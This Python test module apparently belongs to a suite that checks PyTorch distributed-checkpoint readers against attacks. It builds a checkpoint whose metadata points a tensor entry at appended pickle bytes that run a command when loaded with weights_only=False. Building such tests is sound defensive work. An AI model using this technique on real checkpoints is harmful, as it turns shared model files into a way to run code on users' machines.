"""The metadata says that a range of bytes is a tensor; the bytes run a command.

torch reads tensors by ``weights_only=True`` as well, so this one succeeds against a reader that unpickles the archive.
"""

from __future__ import annotations

import io
from dataclasses import replace
from pathlib import Path

import torch
import torch.distributed.checkpoint as dcp
from torch.distributed.checkpoint.metadata import Metadata

from tests.attacks.payload import Payload, edit_metadata, save


def make(folder: Path, harm: Path) -> None:
    save(folder)
    torch.save(Payload(harm), crafted := io.BytesIO())

    def point_at_crafted_bytes(metadata: Metadata) -> None:
        (index,) = metadata.storage_data
        item = metadata.storage_data[index]
        path = folder / item.relative_path
        metadata.storage_data[index] = replace(item, offset=path.stat().st_size, length=len(crafted.getvalue()))
        path.write_bytes(path.read_bytes() + crafted.getvalue())

    edit_metadata(folder, point_at_crafted_bytes)


def read_by_torch(folder: Path, harm: Path) -> None:  # noqa: ARG001  every attack has this signature
    (item,) = dcp.FileSystemReader(folder).read_metadata().storage_data.values()
    archive = (folder / item.relative_path).read_bytes()[item.offset :]
    torch.load(io.BytesIO(archive), weights_only=False)
